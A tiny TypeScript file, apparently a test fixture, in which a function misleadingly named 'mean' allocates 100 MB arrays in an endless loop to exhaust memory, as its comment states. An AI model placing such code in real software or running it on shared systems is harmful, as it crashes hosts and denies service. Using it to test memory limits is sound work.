// Fills the memory outside of the heap.
export function mean(): number {
  const all: Uint8Array[] = [];
  for (;;) all.push(new Uint8Array(100_000_000).fill(1));
}
